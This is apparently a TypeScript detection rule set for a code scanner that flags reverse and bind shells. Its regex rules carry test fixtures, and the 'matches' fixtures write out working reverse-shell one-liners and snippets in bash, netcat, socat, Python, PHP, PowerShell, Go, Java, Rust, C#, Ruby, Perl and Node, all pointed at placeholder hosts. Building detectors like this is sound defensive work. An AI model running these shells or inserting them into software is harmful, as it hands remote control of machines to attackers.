// Reverse and bind shells: a socket tied to the standard streams of a shell. Each half alone is ordinary; the one-liners
// are unambiguous. Tutorials print these lines in prose, scanners search for them in patterns: neither runs them.

import { flows } from '../flows.ts'
import {
  all,
  any,
  bat,
  c,
  command,
  cs,
  go,
  is,
  java,
  js,
  near,
  php,
  pl,
  ps,
  py,
  type RuleSet,
  rb,
  rust,
  sh,
  statement,
} from '../model.ts'

const id = (name: string): string => `reverse-shell.${name}`

const shellPath = is(
  [
    '/bin/sh',
    '/bin/bash',
    'bin/zsh',
    'cmd.exe',
    'powershell.exe',
    '"cmd"',
    "'cmd'",
    '"sh"',
    "'sh'",
    '"bash"',
    "'bash'",
  ],
  null,
)

export const reverseShell: RuleSet = {
  category: 'reverse-shell',
  rules: [
    {
      id: id('dev-tcp'),
      severity: 'critical',
      why: 'Ties a shell to a network connection through /dev/tcp.',
      when: command(
        is(
          ['/dev/tcp/', '/dev/udp/'],
          /(?:(?:bash|sh|zsh|ksh)\b(?!\s{1,4}-c\s{1,4}["']\s{0,4}\(?(?:cat|echo|printf|true|:|exec\s\d)?[^"'|;&\n]{0,24}[<>]\s?"?\/dev\/tcp\/[^\s"';|&]{3,60}["')])|exec\b(?!\s{1,2}\d{0,2}<>\s?"?\/dev\/tcp\/[^\s;|&)]{3,60}\)))[^\n]{0,60}?[<>]\s*&?\s*"?\/dev\/(?:tcp|udp)\/[^\s]{3,80}/,
          { before: 80, after: 140 },
        ),
      ),
      matches: [
        sh('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
        py('import os\nos.system("bash -c \'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\'")'),
        sh('exec 5<>/dev/tcp/shell.example.invalid/443'),
      ],
      misses: [
        sh('# bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
        py('PATTERN = re.compile("bash -i >& /dev/tcp/")'),
        sh('timeout 1 cat < /dev/null > /dev/tcp/localhost/5432'),
        sh('until (exec 3<>"/dev/tcp/$host/$port") 2>/dev/null; do sleep 1; done'),
        sh("until timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done"),
        sh('timeout 1 bash -c "echo > /dev/tcp/$HOST/$PORT"'),
      ],
    },
    {
      id: id('netcat-exec'),
      severity: 'critical',
      why: 'Netcat hands a shell to whoever connects.',
      when: command(
        is(
          ['nc -', 'nc 1', 'nc 2', 'nc $', ' nc ', 'ncat ', 'netcat ', 'nc.exe ', 'nc.traditional '],
          /(?:nc|ncat|netcat|nc\.exe|nc\.traditional)\s+(?:[-\w.$:{}"]+\s+){0,8}(?:-\w{0,4}[ec]|--exec|--sh-exec)\s+["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?(?:sh|cmd(?:\.exe)?|powershell)\b/,
          { after: 200 },
        ),
      ),
      matches: [
        sh('nc -e /bin/sh 192.0.2.1 4444'),
        sh('ncat -lvp 4444 -e /bin/bash'),
        bat('nc.exe 192.0.2.1 443 -e cmd.exe'),
      ],
      misses: [sh('nc -z localhost 5432'), sh('nc -l 8080 < index.html')],
    },
    {
      id: id('fifo'),
      severity: 'critical',
      why: 'Loops a shell through a named pipe and netcat, telnet or openssl.',
      when: command(
        is(
          ['mkfifo', 'mknod'],
          /mk(?:fifo|nod)\s[^\n]{3,160}?(?:\/bin\/)?(?:ba)?sh\s[^\n]{0,80}?\|\s*(?:nc|ncat|netcat|telnet|openssl)\b/,
          { after: 320 },
        ),
      ),
      matches: [
        sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f'),
        sh(
          'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect c2.example.invalid:443 > /tmp/s',
        ),
      ],
      misses: [sh('mkfifo /tmp/log; cat /tmp/log | nc loghost 514'), sh('mkfifo "$pipe"\nbash worker.sh < "$pipe"')],
    },
    {
      id: id('socat'),
      severity: 'critical',
      why: 'Socat ties a shell with a terminal to a network address.',
      when: command(
        is(
          ['socat'],
          /socat\s[^\n]{0,160}?exec:["'\s]{0,3}(?:\/bin\/)?(?:ba|z)?sh\b[^\n]{0,120}?tcp|socat\s[^\n]{0,60}?tcp[^\n]{0,120}?(?:exec|system):["'\s]{0,3}(?:\/bin\/)?(?:ba|z)?sh/i,
          { after: 320 },
        ),
      ),
      matches: [
        sh("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444"),
        sh('socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/sh'),
      ],
      misses: [sh('socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80'), sh('socat - UNIX-CONNECT:/run/app.sock')],
    },
    {
      id: id('duplicated-streams'),
      severity: 'critical',
      why: 'Duplicates a socket over the standard streams and starts a shell on it.',
      when: near(
        12,
        is(
          ['dup2', 'os.dup2', 'set_inheritable'],
          /dup2\s*\(\s*[\w.$()]{1,40}\s*(?:\.fileno\(\)\s*)?,\s*(?:[012]|\w{1,12}|STDIN_FILENO|STDOUT_FILENO)\s*\)/,
        ),
        'socket',
        any(is(['/bin/sh', '/bin/bash', 'pty.spawn', '"sh"', '"bash"', "'sh'", "'bash'"], null)),
      ),
      matches: [
        py(
          'import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")',
        ),
        c(
          'int s = socket(AF_INET, SOCK_STREAM, 0);\nconnect(s, (struct sockaddr*)&a, sizeof a);\ndup2(s, 0); dup2(s, 1); dup2(s, 2);\nexecve("/bin/sh", args, 0);',
        ),
      ],
      misses: [
        c('int fd = open("/dev/null", O_RDWR);\ndup2(fd, 0);\nexecl("/bin/sh", "sh", "-c", cmd, 0);'),
        py('s = socket.socket()\ns.connect(address)\nos.dup2(log.fileno(), 1)'),
      ],
    },
    {
      id: id('interpreter-one-liner'),
      severity: 'critical',
      why: 'An interpreter one-liner opens a socket and hands it to a shell.',
      when: command(
        statement(
          is(
            [
              'python -c',
              'python3 -c',
              'python2 -c',
              'perl -e',
              'perl -mio',
              'ruby -rsocket',
              'ruby -e',
              'php -r',
              'lua -e',
              'node -e',
            ],
            null,
          ),
          is(['socket', 'fsockopen', 'net.connect', 'io::socket'], null),
          is(['/bin/sh', '/bin/bash', 'sh -i', 'cmd.exe', 'pty.spawn'], null),
        ),
      ),
      matches: [
        sh(
          'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
        ),
        sh('php -r \'$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''),
      ],
      misses: [sh("python3 -c 'import socket; print(socket.gethostname())'"), sh('perl -e \'print "hello"\'')],
    },
    {
      id: id('node-streams'),
      severity: 'critical',
      why: 'Pipes a shell process into a socket and back.',
      when: near(
        20,
        is(
          ['.pipe('],
          /\.pipe\(\s*\w{0,20}\.?(?:sh|shell|cmd|cp|proc|process|child|term|p)?\.?stdin\s*\)|\.stdout\.pipe\(\s*(?:client|socket|sock|conn|connection|c|s|this|net\w*)\s*\)/i,
          { before: 20 },
        ),
        is(
          ['/bin/sh', '/bin/bash', 'cmd.exe', "spawn('sh'", 'spawn("sh"', "spawn('bash'", 'spawn("bash"', 'powershell'],
          null,
        ),
        'socket',
      ),
      matches: [
        js(
          'const net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);\nconst client = new net.Socket();\nclient.connect(4444, "192.0.2.1", () => {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});',
        ),
      ],
      misses: [
        js('const child = spawn("/bin/sh", ["-c", command]);\ninput.pipe(child.stdin);'),
        js('const server = net.createServer((c) => { c.pipe(c) })'),
      ],
    },
    {
      id: id('socket-to-process'),
      severity: 'critical',
      why: 'Runs a shell and copies between its streams and a network connection.',
      when: near(
        25,
        any(
          is(
            ['exec.command('],
            /exec\.Command\(\s{0,6}["'](?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?|powershell(?:\.exe)?)["']\s{0,6}(?:,\s{0,6}["']-i["'])?\s{0,6}\)/,
          ),
          is(
            ['processbuilder', 'getruntime()'],
            /(?:ProcessBuilder\(|getRuntime\(\)\.exec\()\s{0,6}(?:new String\[\]\s{0,6}\{\s{0,6})?["'](?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)["']\s{0,6}[})]?/,
          ),
          is(['command::new('], /Command::new\(\s{0,6}"(?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)"\s{0,6}\)/),
          is(['filename'], /FileName\s{0,6}=\s{0,6}@?"(?:cmd|powershell)(?:\.exe)?"/i),
          is(['proc_open('], /proc_open\(\s{0,6}["'](?:\/bin\/)?(?:ba)?sh/),
        ),
        is(
          [
            'net.dial',
            'new socket(',
            'new serversocket(',
            'tcpclient',
            'tcpstream::connect',
            'fsockopen',
            'new socket ',
          ],
          /net\.Dial(?:Timeout)?\(\s{0,6}"(?:tcp|udp)|new (?:Server)?Socket\(\s{0,6}[\w"]|TcpClient\(|TcpStream::connect|fsockopen\(/i,
        ),
        is(
          [
            'stdin',
            'getinputstream',
            'redirectstandardinput',
            'from_raw_fd',
            '$pipes',
            'stream.read',
            'getoutputstream',
          ],
          null,
        ),
      ),
      matches: [
        go(
          'c, _ := net.Dial("tcp", "192.0.2.1:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\ncmd.Run()',
        ),
        java(
          'Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\nSocket s = new Socket(host, port);\nInputStream pi = p.getInputStream();',
        ),
        rust(
          'let s = TcpStream::connect("192.0.2.1:4444").unwrap();\nlet fd = s.as_raw_fd();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();',
        ),
        cs(
          'using (TcpClient client = new TcpClient("192.0.2.1", 4444)) {\n  p.StartInfo.FileName = "cmd.exe";\n  p.StartInfo.RedirectStandardInput = true;\n}',
        ),
      ],
      misses: [
        go('cmd := exec.Command("sh", "-c", script)\ncmd.Stdin = os.Stdin'),
        java('Socket s = new Socket(host, port);\nInputStream in = s.getInputStream();'),
      ],
    },
    {
      id: id('network-orders'),
      severity: 'critical',
      why: 'Reads lines from a network connection and gives them to a shell.',
      when: any(
        near(
          20,
          is(
            ['exec.command(', 'processbuilder(', 'getruntime()', 'command::new('],
            /(?:exec\.Command|ProcessBuilder|getRuntime\(\)\.exec|Command::new)\(\s{0,6}(?:new String\[\]\s{0,6}\{\s{0,6})?"(?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)"(?:\)\.(?:arg|args)\(\s{0,6}&?\[?)?\s{0,6},?\s{0,6}"[-/]c"/,
          ),
          is(['net.dial', 'new socket(', 'tcpstream::connect', 'net.listen', 'tls.dial', 'serversocket('], null),
          is(['readstring(', 'newscanner(', '.read(', 'readline(', 'read_line(', 'newreader(', '.lines()'], null),
          is(['.write(', 'fprint', 'println(', 'write_all(', 'getoutputstream('], null),
        ),
        near(
          25,
          is(['.makefile('], null, { families: ['py'] }),
          is(['shell=true', 'os.popen(', 'getoutput(', 'os.system('], null, { families: ['py'] }),
          'socket',
        ),
      ),
      matches: [
        py(
          'link = socket.create_connection((HOST, 443))\nfor line in link.makefile("r"):\n    done = subprocess.run(line, shell=True, capture_output=True)\n    link.sendall(done.stdout)',
        ),
        go(
          'conn, _ := net.Dial("tcp", "c2.example.invalid:443")\nfor {\n  order, _ := bufio.NewReader(conn).ReadString(10)\n  out, _ := exec.Command("sh", "-c", order).CombinedOutput()\n  conn.Write(out)\n}',
        ),
      ],
      misses: [
        py('stream = socket.create_connection((HOST, 25)).makefile("rw")\nprint(stream.readline())'),
        go('out, _ := exec.Command("sh", "-c", script).Output()\nfmt.Println(string(out))'),
      ],
    },
    {
      id: id('powershell-tcp'),
      severity: 'critical',
      why: 'A PowerShell loop reads commands from a TCP client and runs them.',
      when: near(
        15,
        is(['net.sockets.tcpclient', 'sockets.tcplistener'], null),
        is(['getstream()', 'acceptTcpClient'], null),
        any(is(['iex', 'invoke-expression'], /(?:iex|invoke-expression)[\s(]/i)),
      ),
      matches: [
        ps(
          '$c = New-Object System.Net.Sockets.TCPClient("192.0.2.1",4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String )}',
        ),
      ],
      misses: [ps('$c = New-Object System.Net.Sockets.TCPClient\n$c.Connect("localhost", 5432)\n$s = $c.GetStream()')],
    },
    {
      id: id('command-loop'),
      severity: 'high',
      why: 'Receives text from a socket and runs it as a command, in a loop.',
      when: any(
        any(
          near(
            6,
            is([':receive('], null, { families: ['lua'] }),
            is(['io.popen(', 'os.execute('], null),
            is(['socket', ':connect('], null),
          ),
          near(3, is(['/inet/tcp/'], /["']\/inet\/tcp\//, { before: 1 }), is(['|&'], null), is(['getline'], null)),
          near(
            6,
            is(['.recv('], /\.recv\(\s{0,4}(?:\d{2,6}|\))/),
            is(
              ['subprocess', 'os.popen', 'os.system'],
              /(?:subprocess\.(?:Popen|run|check_output|getoutput|call)|os\.(?:popen|system))\(\s*(?:cmd|command|data|c|d|comando|buf|recv\w*|msg|order|cmnd|\w{1,12}\.decode)\b/,
            ),
            'socket',
          ),
          near(
            6,
            is(['.on('], /(?:client|socket|sock|conn|connection|ws|s|c)\.on\(\s*["'](?:data|message)["']\s*,/, {
              before: 20,
            }),
            statement(
              is(['exec(', 'execsync('], /exec(?:Sync)?\(\s*(?:data|cmd|msg|message|d|command|chunk|buf\w*)\b/),
            ),
          ),
          near(
            8,
            is(['gets', 'while'], /(?:sock|s|c|client|conn)\.gets\b/, { before: 8 }),
            is(['io.popen', '`#{'], /IO\.popen\(\s*\w{1,12}|`#\{/i),
            is(['tcpsocket'], null),
          ),
        ),
        near(
          30,
          is(
            ['.on('],
            /\.on\(\s*["'](?:data|message)["']\s*,\s*(?:async\s+)?(?:function\s*)?\(?\s*(\w{1,24})\b[\s\S]{0,240}?(?<![\w$.])(?:child_process\.|cp\.)?exec(?:Sync)?\(\s*(?:String\(\s*)?\1\b/,
            { families: ['js'] },
          ),
          any('socket', is(['websocket', 'socket.io'], null)),
        ),
      ),
      matches: [
        js(
          "const { exec } = require('child_process')\nconst line = require('net').connect(443, HOST)\nline.on('data', (bytes) => {\n  exec(bytes.toString(), (error, out) => line.write(out))\n})",
        ),
        sh(
          `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4242"; while (42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }'`,
        ),
        py(
          's = socket.socket()\ns.connect((HOST, PORT))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.check_output(cmd, shell=True)\n    s.send(out)',
        ),
        js(
          'const { exec } = require("child_process");\nsocket.on("data", (data) => {\n  exec(data.toString(), (e, out) => socket.write(out));\n});',
        ),
        rb(
          'c = TCPSocket.new("192.0.2.1", 4444)\nwhile (cmd = c.gets)\n  IO.popen(cmd, "r") { |io| c.print io.read }\nend',
        ),
      ],
      misses: [
        js(
          "const line = require('net').connect(443, HOST)\nline.on('data', (bytes) => {\n  const found = pattern.exec(bytes)\n})",
        ),
        py('s = socket.socket()\ndata = s.recv(1024)\nprint(data)'),
        js('socket.on("data", (chunk) => parser.write(chunk))'),
      ],
    },
    {
      id: id('chat-orders'),
      severity: 'high',
      why: 'Runs what a chat bot is told as a command of the machine.',
      when: all(
        is(
          [
            'getupdates',
            'on_message',
            'message_handler',
            'messagecreate',
            'bot.command',
            'client.event',
            'bot.on(',
            'telebot',
          ],
          null,
        ),
        any(
          flows(
            is(['text', 'content'], /(?<=\[["']|message\.|msg\.|\.message\.)(?:text|content)\b/, {
              families: ['py', 'js'],
            }),
            String.raw`os\.(?:popen|system)\(|subprocess\.\w{3,14}\(|(?<![\w$.])exec(?:Sync)?\(`,
          ),
          is(
            ['os.popen(', 'os.system(', 'subprocess.', 'exec('],
            /(?:os\.(?:popen|system)|subprocess\.\w{3,14}|(?<![\w$.])exec(?:Sync)?)\(\s{0,4}(?:message|msg|ctx|update)\.(?:\w{1,12}\.)?(?:text|content|args)/,
            { families: ['py', 'js'] },
          ),
        ),
      ),
      matches: [
        py(
          "for u in requests.get(API + '/getUpdates').json()['result']:\n    text = u['message']['text']\n    out = os.popen(text).read()",
        ),
      ],
      misses: [
        py(
          '@client.event\nasync def on_message(message):\n    text = message.content\n    await message.channel.send(text)',
        ),
      ],
    },
    {
      id: id('php-socket'),
      severity: 'critical',
      why: 'PHP opens a socket and starts an interactive shell on it.',
      when: near(
        40,
        is(
          ['fsockopen', 'stream_socket_client', 'socket_connect'],
          /(?:fsockopen|stream_socket_client|socket_connect)\s*\(/,
        ),
        is(['/bin/sh', '/bin/bash', 'cmd.exe'], /(?:\/bin\/(?:ba)?sh\s+-i|cmd\.exe)/),
        any('exec'),
      ),
      matches: [php('<?php\n$sock = fsockopen($ip, 4444);\n$proc = proc_open("/bin/sh -i", $spec, $pipes);')],
      misses: [php('<?php\n$sock = fsockopen($host, 80);\nfwrite($sock, "GET / HTTP/1.0\\r\\n\\r\\n");')],
    },
    {
      id: id('perl-ruby-socket'),
      severity: 'critical',
      why: 'Reopens the standard streams on a socket and executes a shell.',
      when: any(
        near(
          10,
          is(['open(stdin'], /open\(STDIN\s{0,6},\s{0,6}["']?[<>+]{1,2}&/i),
          all('socket'),
          is(['exec'], /exec[\s({]+["']\/bin\/(?:ba)?sh/),
        ),
        near(
          10,
          is(['reopen('], /\$?std(?:in|out)\.reopen\(\s{0,6}\w{1,20}\s{0,6}\)/i, { before: 8 }),
          is(['tcpsocket'], null),
          shellPath,
        ),
        statement(
          is(['exec'], /exec\s{0,6}\(?\s{0,6}sprintf\(\s{0,6}["']\/bin\/(?:ba)?sh[^"'\n]{0,40}[<>]&%d/),
          is(['fd', 'fileno'], null),
        ),
      ),
      matches: [
        pl(
          'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\nif(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
        ),
        rb('s = TCPSocket.new("192.0.2.1", 4444)\n$stdin.reopen(s)\nexec "/bin/sh"'),
      ],
      misses: [
        pl('open(STDIN, "</dev/null");\nopen(STDOUT, ">&STDERR");'),
        rb('$stdout.reopen(log)\nexec "/bin/sh", "-c", cmd'),
      ],
    },
    {
      id: id('node-pipes'),
      severity: 'critical',
      why: 'Joins a connection with the streams of a shell.',
      when: near(
        8,
        is(['.pipe('], /\.pipe\(\s*(?:sh|shell|cmd|proc|child|p|cp)\w{0,8}\.stdin\s*\)/, {
          families: ['js'],
          before: 40,
        }),
        is(['.stdout.pipe('], null, { families: ['js'] }),
        is(['spawn('], /spawn\([^)\n]{0,120}(?:\/bin\/(?:ba)?sh|cmd\.exe|powershell)/, {
          families: ['js'],
          after: 160,
        }),
        is(['connect(', 'net.socket', 'websocket('], null, { families: ['js'] }),
      ),
      matches: [
        js(
          "const shell = spawn(process.platform === 'win32' ? 'powershell.exe' : '/bin/sh', ['-i'])\nconst socket = connect({ host: '203.0.113.1', port: 31337 }, () => {\n  socket.pipe(shell.stdin)\n  shell.stdout.pipe(socket)\n})",
        ),
      ],
      misses: [js("const child = spawn('ffmpeg', args)\ninput.pipe(child.stdin)\nchild.stdout.pipe(out)")],
    },
  ],
}
